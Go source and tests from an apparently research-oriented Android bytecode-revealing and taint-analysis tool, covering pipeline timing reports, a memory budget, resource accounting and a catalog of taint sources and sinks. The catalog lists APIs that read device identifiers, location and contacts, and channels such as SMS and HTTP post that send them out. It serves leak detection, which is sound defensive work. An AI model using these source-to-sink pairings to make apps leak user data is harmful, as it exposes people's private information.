package pipeline

import (
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"dexlego/internal/obs"
)

// Stage identifies one phase of a Reveal run, mirroring Fig. 1 of the
// paper: driving the app under JIT collection, the Sapienz-style fuzzing
// run, the iterative force-execution module, offline reassembly, and the
// structural verification of the revealed DEX.
type Stage string

// The pipeline stages in execution order.
const (
	StageCollection Stage = "collection"
	StageFuzz       Stage = "fuzz"
	StageForceExec  Stage = "force-execution"
	StageReassembly Stage = "reassembly"
	StageVerify     Stage = "verify"
)

// Stages returns all stages in execution order.
func Stages() []Stage {
	return []Stage{StageCollection, StageFuzz, StageForceExec, StageReassembly, StageVerify}
}

// stageIndex maps each known stage to its execution-order position.
var stageIndex = func() map[Stage]int {
	m := make(map[Stage]int, len(Stages()))
	for i, s := range Stages() {
		m[s] = i
	}
	return m
}()

// Valid reports whether s is a known pipeline stage.
func (s Stage) Valid() bool { _, ok := stageIndex[s]; return ok }

// String returns the stage name.
func (s Stage) String() string { return string(s) }

// MarshalJSON refuses to encode stages outside the vocabulary, so a corrupt
// report can never be written silently.
func (s Stage) MarshalJSON() ([]byte, error) {
	if !s.Valid() {
		return nil, fmt.Errorf("pipeline: unknown stage %q", string(s))
	}
	return json.Marshal(string(s))
}

// UnmarshalJSON rejects unknown stages, making report decoding a schema
// validation.
func (s *Stage) UnmarshalJSON(b []byte) error {
	var str string
	if err := json.Unmarshal(b, &str); err != nil {
		return err
	}
	if !Stage(str).Valid() {
		return fmt.Errorf("pipeline: unknown stage %q", str)
	}
	*s = Stage(str)
	return nil
}

// StageTiming records the wall time one stage consumed, and — for stages
// that fan work out across a worker pool — the aggregate CPU time the
// workers spent inside it. CPUNS is zero for serial stages (wall is the
// honest cost there); for parallel stages CPUNS/WallNS approximates the
// effective parallelism the stage achieved.
type StageTiming struct {
	Stage  Stage `json:"stage"`
	WallNS int64 `json:"wallNS"`
	CPUNS  int64 `json:"cpuNS,omitempty"`
	// AllocBytes is the heap allocation volume of the stage's window,
	// sampled from the process-wide allocation counter: exact when one job
	// runs at a time, an upper bound when jobs share the process.
	AllocBytes int64 `json:"allocBytes,omitempty"`
}

// Wall returns the recorded wall time as a duration.
func (st StageTiming) Wall() time.Duration { return time.Duration(st.WallNS) }

// CPU returns the recorded aggregate worker CPU time as a duration.
func (st StageTiming) CPU() time.Duration { return time.Duration(st.CPUNS) }

// AppMetrics is the structured outcome of one app's reveal: per-stage wall
// times plus the collection and reassembly counters of the paper's
// evaluation tables.
type AppMetrics struct {
	Name string `json:"name"`
	// Stages holds one timing per stage that ran, in execution order.
	// Optional stages (fuzz, force-execution) are absent when disabled.
	Stages []StageTiming `json:"stages,omitempty"`
	// WallNS is the total wall time of the reveal, including overhead not
	// attributed to a stage.
	WallNS int64 `json:"wallNS"`

	// ExecutedInsns counts unique collected instructions (the paper's
	// dump-size proxy).
	ExecutedInsns int `json:"executedInsns"`
	// Methods, ExecutedMethods and Stubs summarize the reassembled DEX.
	Methods         int `json:"methods"`
	ExecutedMethods int `json:"executedMethods"`
	Stubs           int `json:"stubs"`
	// Variants counts extra method bodies emitted for multi-tree methods;
	// Divergences counts merged self-modification layers.
	Variants    int `json:"variants"`
	Divergences int `json:"divergences"`
	// MethodsCached counts methods served from the incremental per-method
	// collection cache (trees spliced, no execution); MethodsExecuted
	// counts methods that collected fresh trees. Both are zero when the
	// incremental path was off.
	MethodsCached   int `json:"methodsCached,omitempty"`
	MethodsExecuted int `json:"methodsExecuted,omitempty"`
	// MethodsSpilled counts completed method records displaced to the
	// spill tier mid-reveal to cap the run's heap; SpilledBytes is their
	// serialized volume. Both are zero without a spill cache.
	MethodsSpilled int   `json:"methodsSpilled,omitempty"`
	SpilledBytes   int64 `json:"spilledBytes,omitempty"`

	// Obs carries the run's observability snapshot (event counts, tree
	// depth, span histograms); nil when tracing was off.
	Obs *obs.Snapshot `json:"obs,omitempty"`

	// Resources is the job's resource bill: CPU, heap churn and peak
	// occupancy, and latency split. Nil for reports written before
	// resource accounting existed.
	Resources *ResourceUsage `json:"resources,omitempty"`

	// Err is the job's failure, if any ("" on success). A failed job
	// carries no counters.
	Err string `json:"err,omitempty"`
}

// AddStage records the timing of one completed stage. A stage that runs
// more than once (a retried driver, a re-entered module) accumulates into
// its existing entry rather than appending a duplicate — duplicates would
// double-attribute overhead and break the sum(stages) <= WallNS invariant
// that Validate enforces.
func (m *AppMetrics) AddStage(s Stage, d time.Duration) {
	for i := range m.Stages {
		if m.Stages[i].Stage == s {
			m.Stages[i].WallNS += int64(d)
			return
		}
	}
	m.Stages = append(m.Stages, StageTiming{Stage: s, WallNS: int64(d)})
}

// AddStageCPU attributes aggregate worker CPU time to a stage, creating the
// entry if the stage has not recorded wall time yet. Unlike wall time, CPU
// time across workers may legitimately exceed the stage's wall time — that
// surplus is exactly the parallelism the stage bought.
func (m *AppMetrics) AddStageCPU(s Stage, d time.Duration) {
	for i := range m.Stages {
		if m.Stages[i].Stage == s {
			m.Stages[i].CPUNS += int64(d)
			return
		}
	}
	m.Stages = append(m.Stages, StageTiming{Stage: s, CPUNS: int64(d)})
}

// AddStageAlloc attributes heap allocation volume to a stage, creating the
// entry if the stage has not recorded wall time yet.
func (m *AppMetrics) AddStageAlloc(s Stage, bytes int64) {
	for i := range m.Stages {
		if m.Stages[i].Stage == s {
			m.Stages[i].AllocBytes += bytes
			return
		}
	}
	m.Stages = append(m.Stages, StageTiming{Stage: s, AllocBytes: bytes})
}

// StageCPU returns the aggregate worker CPU time recorded for s, or 0.
func (m *AppMetrics) StageCPU(s Stage) time.Duration {
	for _, st := range m.Stages {
		if st.Stage == s {
			return st.CPU()
		}
	}
	return 0
}

// StageWall returns the recorded wall time of s, or 0 if it did not run.
func (m *AppMetrics) StageWall(s Stage) time.Duration {
	for _, st := range m.Stages {
		if st.Stage == s {
			return st.Wall()
		}
	}
	return 0
}

// Wall returns the app's total wall time.
func (m *AppMetrics) Wall() time.Duration { return time.Duration(m.WallNS) }

// StageSum returns the wall time attributed to stages.
func (m *AppMetrics) StageSum() time.Duration {
	var total int64
	for _, st := range m.Stages {
		total += st.WallNS
	}
	return time.Duration(total)
}

// Validate checks the stage-accounting invariants of a successful run:
// every stage is known and appears at most once, stages are in execution
// order, no stage timing is negative, and the per-stage sum never exceeds
// the total wall time (stages are timed inside the run, so attribution
// beyond WallNS means some overhead was counted twice).
func (m *AppMetrics) Validate() error {
	last := -1
	for _, st := range m.Stages {
		idx, ok := stageIndex[st.Stage]
		if !ok {
			return fmt.Errorf("pipeline: %s: unknown stage %q", m.Name, st.Stage)
		}
		if idx == last {
			return fmt.Errorf("pipeline: %s: duplicate stage %q", m.Name, st.Stage)
		}
		if idx < last {
			return fmt.Errorf("pipeline: %s: stage %q out of execution order", m.Name, st.Stage)
		}
		if st.WallNS < 0 {
			return fmt.Errorf("pipeline: %s: stage %q has negative wall time", m.Name, st.Stage)
		}
		if st.CPUNS < 0 {
			return fmt.Errorf("pipeline: %s: stage %q has negative cpu time", m.Name, st.Stage)
		}
		if st.AllocBytes < 0 {
			return fmt.Errorf("pipeline: %s: stage %q has negative allocation volume", m.Name, st.Stage)
		}
		last = idx
	}
	if sum := int64(m.StageSum()); sum > m.WallNS {
		return fmt.Errorf("pipeline: %s: stage sum %v exceeds total wall %v (double-counted overhead)",
			m.Name, m.StageSum(), m.Wall())
	}
	if err := m.Resources.Validate(); err != nil {
		return fmt.Errorf("pipeline: %s: %w", m.Name, err)
	}
	if m.Resources != nil {
		var stageAlloc int64
		for _, st := range m.Stages {
			stageAlloc += st.AllocBytes
		}
		// Stage windows are disjoint subintervals of the run window over a
		// monotonic counter, so their sum can never exceed the run total.
		if stageAlloc > m.Resources.AllocBytes {
			return fmt.Errorf("pipeline: %s: per-stage allocation %d exceeds run total %d",
				m.Name, stageAlloc, m.Resources.AllocBytes)
		}
	}
	return nil
}

// Report aggregates a batch run: per-app metrics in job order plus batch
// totals. Its JSON encoding is the schema cmd/dexlego -metrics-out writes.
type Report struct {
	// Workers is the effective parallelism the batch ran with.
	Workers int `json:"workers"`
	// Jobs and Failed count submitted and failed jobs.
	Jobs   int `json:"jobs"`
	Failed int `json:"failed"`
	// WallNS is the batch wall time; SerialNS sums the per-app wall times
	// (the serial-equivalent cost), so SerialNS/WallNS is the speedup.
	WallNS   int64 `json:"wallNS"`
	SerialNS int64 `json:"serialNS"`

	// StageTotals sums each stage's wall time across apps, in stage order.
	StageTotals []StageTiming `json:"stageTotals,omitempty"`

	// Batch-wide counter totals over successful jobs.
	TotalExecutedInsns   int `json:"totalExecutedInsns"`
	TotalMethods         int `json:"totalMethods"`
	TotalExecutedMethods int `json:"totalExecutedMethods"`
	TotalStubs           int `json:"totalStubs"`
	TotalVariants        int `json:"totalVariants"`
	TotalDivergences     int `json:"totalDivergences"`
	TotalMethodsCached   int   `json:"totalMethodsCached,omitempty"`
	TotalMethodsExecuted int   `json:"totalMethodsExecuted,omitempty"`
	TotalMethodsSpilled  int   `json:"totalMethodsSpilled,omitempty"`
	TotalSpilledBytes    int64 `json:"totalSpilledBytes,omitempty"`

	// Obs merges the per-app observability snapshots (event counts add,
	// tree depth maxes, span histograms combine); nil when tracing was off.
	Obs *obs.Snapshot `json:"obs,omitempty"`

	// Resources aggregates the per-app resource bills over successful jobs:
	// CPU, allocation volume and latencies add, peak heap takes the
	// batch-wide maximum. Nil when no app recorded resources.
	Resources *ResourceUsage `json:"resources,omitempty"`

	// Apps holds the per-app metrics in job submission order, regardless
	// of completion order.
	Apps []AppMetrics `json:"apps"`
}

// BuildReport aggregates per-app metrics (in job order) into a Report.
func BuildReport(workers int, wall time.Duration, apps []AppMetrics) *Report {
	r := &Report{
		Workers: workers,
		Jobs:    len(apps),
		WallNS:  int64(wall),
		Apps:    apps,
	}
	stageTotals := make(map[Stage]int64)
	stageCPU := make(map[Stage]int64)
	stageAlloc := make(map[Stage]int64)
	for _, m := range apps {
		if m.Err != "" {
			r.Failed++
			continue
		}
		r.SerialNS += m.WallNS
		r.TotalExecutedInsns += m.ExecutedInsns
		r.TotalMethods += m.Methods
		r.TotalExecutedMethods += m.ExecutedMethods
		r.TotalStubs += m.Stubs
		r.TotalVariants += m.Variants
		r.TotalDivergences += m.Divergences
		r.TotalMethodsCached += m.MethodsCached
		r.TotalMethodsExecuted += m.MethodsExecuted
		r.TotalMethodsSpilled += m.MethodsSpilled
		r.TotalSpilledBytes += m.SpilledBytes
		r.Obs = obs.MergeSnapshots(r.Obs, m.Obs)
		if ru := m.Resources; ru != nil {
			if r.Resources == nil {
				r.Resources = &ResourceUsage{}
			}
			r.Resources.CPUNS += ru.CPUNS
			r.Resources.AllocBytes += ru.AllocBytes
			r.Resources.QueueNS += ru.QueueNS
			r.Resources.RunNS += ru.RunNS
			r.Resources.TotalNS += ru.TotalNS
			if ru.HeapPeakBytes > r.Resources.HeapPeakBytes {
				r.Resources.HeapPeakBytes = ru.HeapPeakBytes
			}
		}
		for _, st := range m.Stages {
			stageTotals[st.Stage] += st.WallNS
			stageCPU[st.Stage] += st.CPUNS
			stageAlloc[st.Stage] += st.AllocBytes
		}
	}
	for _, s := range Stages() {
		if ns, ok := stageTotals[s]; ok {
			r.StageTotals = append(r.StageTotals,
				StageTiming{Stage: s, WallNS: ns, CPUNS: stageCPU[s], AllocBytes: stageAlloc[s]})
		}
	}
	return r
}

// Speedup returns the serial-equivalent cost divided by the batch wall
// time — the parallel speedup the pool achieved.
func (r *Report) Speedup() float64 {
	if r.WallNS == 0 {
		return 0
	}
	return float64(r.SerialNS) / float64(r.WallNS)
}

// Wall returns the batch wall time.
func (r *Report) Wall() time.Duration { return time.Duration(r.WallNS) }

// JSON returns the indented JSON encoding of the report.
func (r *Report) JSON() ([]byte, error) { return json.MarshalIndent(r, "", "  ") }

// DecodeReport parses and validates a report produced by Report.JSON:
// unknown stages are rejected by Stage.UnmarshalJSON and every successful
// app must satisfy the stage-accounting invariants of Validate.
func DecodeReport(data []byte) (*Report, error) {
	var r Report
	if err := json.Unmarshal(data, &r); err != nil {
		return nil, fmt.Errorf("pipeline: report does not parse: %w", err)
	}
	for i := range r.Apps {
		if r.Apps[i].Err != "" {
			continue
		}
		if err := r.Apps[i].Validate(); err != nil {
			return nil, err
		}
	}
	return &r, nil
}

// String renders a compact per-app table with batch totals.
func (r *Report) String() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "batch: %d jobs, %d workers, wall %v, serial-equivalent %v, speedup %.2fx\n",
		r.Jobs, r.Workers, r.Wall().Round(time.Microsecond),
		time.Duration(r.SerialNS).Round(time.Microsecond), r.Speedup())
	fmt.Fprintf(&sb, "%-30s %12s %10s %9s %7s %9s\n",
		"app", "wall", "insns", "methods", "stubs", "variants")
	for i := range r.Apps {
		m := &r.Apps[i]
		if m.Err != "" {
			fmt.Fprintf(&sb, "%-30s FAILED: %s\n", m.Name, m.Err)
			continue
		}
		fmt.Fprintf(&sb, "%-30s %12v %10d %9d %7d %9d\n",
			m.Name, m.Wall().Round(time.Microsecond), m.ExecutedInsns,
			m.Methods, m.Stubs, m.Variants)
	}
	for _, st := range r.StageTotals {
		fmt.Fprintf(&sb, "  stage %-16s %12v\n", st.Stage, st.Wall().Round(time.Microsecond))
	}
	if ru := r.Resources; ru != nil {
		fmt.Fprintf(&sb, "  resources: cpu %v, alloc %.1f MiB, peak heap +%.1f MiB\n",
			time.Duration(ru.CPUNS).Round(time.Microsecond),
			float64(ru.AllocBytes)/(1<<20), float64(ru.HeapPeakBytes)/(1<<20))
	}
	return sb.String()
}
