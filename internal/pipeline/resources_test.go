package pipeline

import (
	"runtime"
	"strings"
	"testing"
	"time"
)

func TestResourceUsageValidate(t *testing.T) {
	cases := []struct {
		name string
		ru   *ResourceUsage
		ok   bool
	}{
		{"nil", nil, true},
		{"zero", &ResourceUsage{}, true},
		{"full", &ResourceUsage{CPUNS: 1, AllocBytes: 2, HeapPeakBytes: 3, QueueNS: 4, RunNS: 5, TotalNS: 9}, true},
		{"run only", &ResourceUsage{RunNS: 5}, true},
		{"negative alloc", &ResourceUsage{AllocBytes: -1}, false},
		{"negative cpu", &ResourceUsage{CPUNS: -1}, false},
		{"total below run", &ResourceUsage{RunNS: 10, TotalNS: 5}, false},
		{"total below queue", &ResourceUsage{QueueNS: 10, TotalNS: 5}, false},
	}
	for _, c := range cases {
		if err := c.ru.Validate(); (err == nil) != c.ok {
			t.Errorf("%s: Validate = %v, want ok=%t", c.name, err, c.ok)
		}
	}
}

func TestResourceAccountantTracksAllocation(t *testing.T) {
	a := NewResourceAccountant()
	sink := make([][]byte, 0, 64)
	for i := 0; i < 64; i++ {
		sink = append(sink, make([]byte, 16<<10))
	}
	alloc, _ := a.StageDone()
	// The runtime's allocation counter is assembled from per-P caches and
	// may lag by a few slots, so assert a generous lower bound rather than
	// the exact volume.
	if alloc < 64*(16<<10)/2 {
		t.Errorf("stage allocated ~1MiB but accountant saw only %d bytes", alloc)
	}
	_ = sink
	ru := a.Finish(123, 456)
	if ru.CPUNS != 123 || ru.RunNS != 456 {
		t.Errorf("Finish did not carry cpu/run: %+v", ru)
	}
	if ru.AllocBytes < alloc {
		t.Errorf("run total %d below stage bill %d", ru.AllocBytes, alloc)
	}
	if ru.HeapPeakBytes < 0 {
		t.Errorf("negative heap peak %d", ru.HeapPeakBytes)
	}
	if err := ru.Validate(); err != nil {
		t.Errorf("accountant produced invalid usage: %v", err)
	}
}

func TestAddStageAllocAccumulates(t *testing.T) {
	var m AppMetrics
	m.AddStage(StageCollection, time.Millisecond)
	m.AddStageAlloc(StageCollection, 100)
	m.AddStageAlloc(StageCollection, 50)
	if len(m.Stages) != 1 || m.Stages[0].AllocBytes != 150 {
		t.Errorf("stage alloc = %+v, want one entry with 150", m.Stages)
	}
	m.AddStageAlloc(StageVerify, 7)
	if len(m.Stages) != 2 || m.Stages[1].AllocBytes != 7 {
		t.Errorf("new stage entry not created: %+v", m.Stages)
	}
}

func TestValidateResourceInvariants(t *testing.T) {
	m := AppMetrics{Name: "a", WallNS: int64(time.Second)}
	m.AddStage(StageCollection, time.Millisecond)
	m.AddStageAlloc(StageCollection, 1000)
	m.Resources = &ResourceUsage{AllocBytes: 500}
	if err := m.Validate(); err == nil ||
		!strings.Contains(err.Error(), "exceeds run total") {
		t.Errorf("stage alloc above run total not caught: %v", err)
	}
	m.Resources.AllocBytes = 1000
	if err := m.Validate(); err != nil {
		t.Errorf("valid resources rejected: %v", err)
	}
	m.Stages[0].AllocBytes = -1
	if err := m.Validate(); err == nil {
		t.Error("negative stage alloc not caught")
	}
}

func TestBuildReportAggregatesResources(t *testing.T) {
	apps := []AppMetrics{
		{Name: "a", WallNS: 10, Resources: &ResourceUsage{CPUNS: 5, AllocBytes: 100, HeapPeakBytes: 30, RunNS: 10}},
		{Name: "b", WallNS: 20, Resources: &ResourceUsage{CPUNS: 7, AllocBytes: 200, HeapPeakBytes: 80, RunNS: 20}},
		{Name: "fail", Err: "boom", Resources: &ResourceUsage{AllocBytes: 999}},
	}
	r := BuildReport(2, 30, apps)
	ru := r.Resources
	if ru == nil {
		t.Fatal("report has no resource aggregate")
	}
	if ru.CPUNS != 12 || ru.AllocBytes != 300 || ru.RunNS != 30 {
		t.Errorf("sums wrong: %+v", ru)
	}
	if ru.HeapPeakBytes != 80 {
		t.Errorf("peak heap = %d, want batch max 80", ru.HeapPeakBytes)
	}
	if !strings.Contains(r.String(), "resources:") {
		t.Errorf("report text omits resources:\n%s", r.String())
	}

	// No app recorded resources -> no aggregate fabricated.
	if r := BuildReport(1, 1, []AppMetrics{{Name: "x", WallNS: 1}}); r.Resources != nil {
		t.Errorf("aggregate fabricated from nothing: %+v", r.Resources)
	}
}

func TestReportRoundTripWithResources(t *testing.T) {
	apps := []AppMetrics{{
		Name:   "a",
		WallNS: int64(time.Second),
		Stages: []StageTiming{{Stage: StageCollection, WallNS: 1000, AllocBytes: 64}},
		Resources: &ResourceUsage{
			CPUNS: 1, AllocBytes: 128, HeapPeakBytes: 2, QueueNS: 3, RunNS: 4, TotalNS: 8,
		},
	}}
	data, err := BuildReport(1, time.Second, apps).JSON()
	if err != nil {
		t.Fatal(err)
	}
	back, err := DecodeReport(data)
	if err != nil {
		t.Fatal(err)
	}
	got := back.Apps[0].Resources
	if got == nil || *got != *apps[0].Resources {
		t.Errorf("resources did not round trip: %+v", got)
	}
	if back.Apps[0].Stages[0].AllocBytes != 64 {
		t.Errorf("stage alloc did not round trip: %+v", back.Apps[0].Stages)
	}
}

func TestStartSamplingCatchesInStageBalloon(t *testing.T) {
	// A stage that balloons the heap and frees before returning leaves no
	// trace at its boundary; the sampling ticker must catch it anyway.
	a := NewResourceAccountant()
	stop := a.StartSampling(time.Millisecond)
	defer stop()

	const balloon = 32 << 20
	sink := make([]byte, balloon)
	for i := 0; i < len(sink); i += 4096 {
		sink[i] = byte(i)
	}
	// Hold the balloon across several ticker intervals.
	deadline := time.Now().Add(50 * time.Millisecond)
	for time.Now().Before(deadline) {
		time.Sleep(time.Millisecond)
	}
	runtime.KeepAlive(sink)
	sink = nil
	runtime.GC() // free before the boundary — the balloon is now invisible there
	stop()
	stop() // idempotent

	ru := a.Finish(0, 0)
	if ru.HeapPeakBytes < balloon/2 {
		t.Errorf("in-stage %dMiB balloon invisible to sampling: peak %d bytes",
			balloon>>20, ru.HeapPeakBytes)
	}
	if err := ru.Validate(); err != nil {
		t.Errorf("sampled usage invalid: %v", err)
	}
}

func TestSampleNowRaisesPeak(t *testing.T) {
	a := NewResourceAccountant()
	sink := make([]byte, 8<<20)
	for i := 0; i < len(sink); i += 4096 {
		sink[i] = 1
	}
	delta := a.SampleNow()
	runtime.KeepAlive(sink)
	if delta < 4<<20 {
		t.Errorf("SampleNow delta %d below half the held allocation", delta)
	}
	if peak := a.Finish(0, 0).HeapPeakBytes; peak < delta {
		t.Errorf("peak %d below observed sample %d", peak, delta)
	}
}
