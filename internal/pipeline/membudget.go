package pipeline

import (
	"sync"
	"sync/atomic"
	"time"
)

// MemoryBudget is the admission gate for reveal heap footprint: the sum of
// the estimated footprints of all admitted jobs never exceeds the limit.
// It mirrors the worker clamp in internal/server (jobs × reveal workers ≤
// GOMAXPROCS): job-level concurrency multiplies per-job heap just as it
// multiplies per-job goroutines, and a bounded queue alone does not stop
// three whale APKs from running their tree-heavy reassembly at once.
//
// Unlike the pool's TrySubmit (reject with 429), Acquire blocks: the job is
// already admitted and owed an answer, so the budget trades latency for
// peak heap rather than refusing work. A nil *MemoryBudget is the no-op
// unlimited default; every method is nil-safe.
type MemoryBudget struct {
	limit int64

	mu    sync.Mutex
	cond  *sync.Cond
	inUse int64

	waits  atomic.Int64
	waitNS atomic.Int64
}

// NewMemoryBudget returns a gate admitting at most limit estimated bytes of
// concurrent reveal footprint. A non-positive limit returns nil — the
// unlimited no-op budget — so callers can pass a raw flag value through.
func NewMemoryBudget(limit int64) *MemoryBudget {
	if limit <= 0 {
		return nil
	}
	b := &MemoryBudget{limit: limit}
	b.cond = sync.NewCond(&b.mu)
	return b
}

// MemReservation is one admitted footprint estimate; Release returns it to
// the budget. A nil reservation (from a nil budget) is a valid no-op.
type MemReservation struct {
	b        *MemoryBudget
	bytes    int64
	released bool
}

// Acquire blocks until estimate bytes fit under the limit, then reserves
// them, returning the reservation and the time spent blocked (0 when
// admission was immediate). An estimate larger than the whole limit is
// admitted once the budget is empty — the oversized job runs alone rather
// than deadlocking — which keeps the gate a throttle, not a validator.
func (b *MemoryBudget) Acquire(estimate int64) (*MemReservation, time.Duration) {
	if b == nil {
		return nil, 0
	}
	if estimate < 1 {
		estimate = 1
	}
	var start time.Time
	waited := false
	b.mu.Lock()
	for b.inUse > 0 && b.inUse+estimate > b.limit {
		if !waited {
			waited = true
			start = time.Now()
			b.waits.Add(1)
		}
		b.cond.Wait()
	}
	b.inUse += estimate
	b.mu.Unlock()
	var wait time.Duration
	if waited {
		wait = time.Since(start)
		b.waitNS.Add(int64(wait))
	}
	return &MemReservation{b: b, bytes: estimate}, wait
}

// Release returns the reservation to the budget and wakes waiters. It is
// idempotent and nil-safe, so a deferred Release composes with an explicit
// one on the success path.
func (r *MemReservation) Release() {
	if r == nil {
		return
	}
	b := r.b
	b.mu.Lock()
	if r.released {
		b.mu.Unlock()
		return
	}
	r.released = true
	b.inUse -= r.bytes
	b.mu.Unlock()
	b.cond.Broadcast()
}

// Limit returns the configured byte limit (0 on nil).
func (b *MemoryBudget) Limit() int64 {
	if b == nil {
		return 0
	}
	return b.limit
}

// InUse returns the currently reserved estimate bytes (0 on nil).
func (b *MemoryBudget) InUse() int64 {
	if b == nil {
		return 0
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.inUse
}

// Waits counts Acquire calls that blocked at least once (0 on nil).
func (b *MemoryBudget) Waits() int64 {
	if b == nil {
		return 0
	}
	return b.waits.Load()
}

// WaitNS totals the time Acquire calls spent blocked (0 on nil).
func (b *MemoryBudget) WaitNS() int64 {
	if b == nil {
		return 0
	}
	return b.waitNS.Load()
}
