// Package apimodel is the shared catalog of Android framework APIs that act
// as taint sources and sinks. The runtime's framework model (internal/art)
// uses it to decide which native methods produce tainted values and which
// report leaks; the static analysis engine (internal/taint) uses it to seed
// and terminate flows. Keeping one catalog guarantees that dynamic and
// static analyses agree on what counts as a leak, as DroidBench assumes.
package apimodel

// TaintKind labels the category of sensitive data carried by a value.
type TaintKind uint32

// Taint kinds, combinable as a bitset.
const (
	TaintIMEI TaintKind = 1 << iota
	TaintSIM
	TaintLocation
	TaintSSID
	TaintContacts
	TaintFileContent
	TaintGeneric
)

// String returns a short label for a (single-bit) taint kind.
func (k TaintKind) String() string {
	switch k {
	case TaintIMEI:
		return "imei"
	case TaintSIM:
		return "sim"
	case TaintLocation:
		return "location"
	case TaintSSID:
		return "ssid"
	case TaintContacts:
		return "contacts"
	case TaintFileContent:
		return "file"
	case TaintGeneric:
		return "generic"
	default:
		return "mixed"
	}
}

// SinkKind labels the exfiltration channel of a sink API.
type SinkKind uint8

// Sink kinds.
const (
	SinkSMS SinkKind = iota + 1
	SinkLog
	SinkNetwork
	SinkFile
)

// String returns the channel name.
func (k SinkKind) String() string {
	switch k {
	case SinkSMS:
		return "sms"
	case SinkLog:
		return "log"
	case SinkNetwork:
		return "network"
	case SinkFile:
		return "file"
	default:
		return "unknown"
	}
}

// Source describes one source API.
type Source struct {
	Method string // canonical Lcls;->name(sig) key
	Kind   TaintKind
}

// Sink describes one sink API.
type Sink struct {
	Method string
	Kind   SinkKind
}

// Sources lists every source API modeled by the framework.
func Sources() []Source {
	return []Source{
		{"Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;", TaintIMEI},
		{"Landroid/telephony/TelephonyManager;->getSimSerialNumber()Ljava/lang/String;", TaintSIM},
		{"Landroid/location/LocationManager;->getLastKnownLocation(Ljava/lang/String;)Landroid/location/Location;", TaintLocation},
		{"Landroid/location/Location;->toString()Ljava/lang/String;", TaintLocation},
		{"Landroid/net/wifi/WifiInfo;->getSSID()Ljava/lang/String;", TaintSSID},
		{"Landroid/content/ContactsReader;->query()Ljava/lang/String;", TaintContacts},
	}
}

// Sinks lists every sink API modeled by the framework.
func Sinks() []Sink {
	return []Sink{
		{"Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/Object;Ljava/lang/Object;)V", SinkSMS},
		{"Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I", SinkLog},
		{"Landroid/util/Log;->d(Ljava/lang/String;Ljava/lang/String;)I", SinkLog},
		{"Landroid/util/Log;->e(Ljava/lang/String;Ljava/lang/String;)I", SinkLog},
		{"Landroid/net/http/HttpClient;->post(Ljava/lang/String;Ljava/lang/String;)V", SinkNetwork},
		{"Ljava/io/FileUtil;->writeExternal(Ljava/lang/String;Ljava/lang/String;)V", SinkFile},
	}
}

// SourceKind returns the taint kind of the given method key, or 0.
func SourceKind(methodKey string) TaintKind {
	for _, s := range Sources() {
		if s.Method == methodKey {
			return s.Kind
		}
	}
	return 0
}

// SinkOf returns the sink kind of the given method key, or 0.
func SinkOf(methodKey string) SinkKind {
	for _, s := range Sinks() {
		if s.Method == methodKey {
			return s.Kind
		}
	}
	return 0
}

// IsSource reports whether the method key is a source.
func IsSource(methodKey string) bool { return SourceKind(methodKey) != 0 }

// IsSink reports whether the method key is a sink.
func IsSink(methodKey string) bool { return SinkOf(methodKey) != 0 }

// SinkArgStart returns the index of the first data-carrying argument checked
// for taint at the given sink (skipping, e.g., the SMS destination number
// and log tags). Indexes are into the argument list excluding any receiver.
func SinkArgStart(methodKey string) int {
	switch SinkOf(methodKey) {
	case SinkSMS:
		return 2 // destination, scAddress, *text*
	case SinkLog:
		return 1 // tag, *message*
	case SinkNetwork:
		return 1 // url, *body*
	case SinkFile:
		return 1 // path, *contents*
	default:
		return 0
	}
}
