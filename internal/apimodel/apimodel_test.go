package apimodel

import "testing"

func TestCatalogConsistency(t *testing.T) {
	for _, s := range Sources() {
		if !IsSource(s.Method) {
			t.Errorf("%s: IsSource false", s.Method)
		}
		if SourceKind(s.Method) != s.Kind {
			t.Errorf("%s: kind mismatch", s.Method)
		}
		if IsSink(s.Method) {
			t.Errorf("%s: is both source and sink", s.Method)
		}
	}
	for _, s := range Sinks() {
		if !IsSink(s.Method) {
			t.Errorf("%s: IsSink false", s.Method)
		}
		if SinkOf(s.Method) != s.Kind {
			t.Errorf("%s: kind mismatch", s.Method)
		}
		if start := SinkArgStart(s.Method); start < 0 {
			t.Errorf("%s: negative arg start", s.Method)
		}
	}
	if IsSource("Lno/Such;->api()V") || IsSink("Lno/Such;->api()V") {
		t.Error("unknown method classified")
	}
	if SinkArgStart("Lno/Such;->api()V") != 0 {
		t.Error("unknown sink arg start should be 0")
	}
}

func TestKindStrings(t *testing.T) {
	if TaintIMEI.String() != "imei" || TaintLocation.String() != "location" {
		t.Error("taint kind names broken")
	}
	if (TaintIMEI | TaintSIM).String() != "mixed" {
		t.Errorf("combined kind = %q", (TaintIMEI | TaintSIM).String())
	}
	for _, k := range []SinkKind{SinkSMS, SinkLog, SinkNetwork, SinkFile} {
		if k.String() == "unknown" {
			t.Errorf("sink kind %d has no name", k)
		}
	}
	if SinkKind(99).String() != "unknown" {
		t.Error("unknown sink kind mislabeled")
	}
}

func TestSinkArgStarts(t *testing.T) {
	// The SMS text is the third argument; log messages the second.
	sms := "Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/Object;Ljava/lang/Object;)V"
	if SinkArgStart(sms) != 2 {
		t.Errorf("sms arg start = %d", SinkArgStart(sms))
	}
	logKey := "Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I"
	if SinkArgStart(logKey) != 1 {
		t.Errorf("log arg start = %d", SinkArgStart(logKey))
	}
}
