package taint

import (
	"fmt"

	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
)

// model is the analyzable view of a set of DEX files.
type model struct {
	classes map[string]*mClass
}

type mClass struct {
	desc   string
	super  string
	ifaces []string
	meths  []*mMethod
	file   *dex.File
}

type mMethod struct {
	cls    *mClass
	name   string
	sig    string
	static bool
	ret    string
	params []string
	regs   int
	ins    int
	code   []bytecode.Placed
	pcIdx  map[int]int // dex_pc -> code index
	tries  []dex.Try
	file   *dex.File
}

func (m *mMethod) key() string { return m.cls.desc + "->" + m.name + m.sig }

func buildModel(files []*dex.File) (*model, error) {
	md := &model{classes: make(map[string]*mClass)}
	for _, f := range files {
		for ci := range f.Classes {
			cd := &f.Classes[ci]
			desc := f.TypeName(cd.Class)
			if _, dup := md.classes[desc]; dup {
				continue // first definition wins, like the class linker
			}
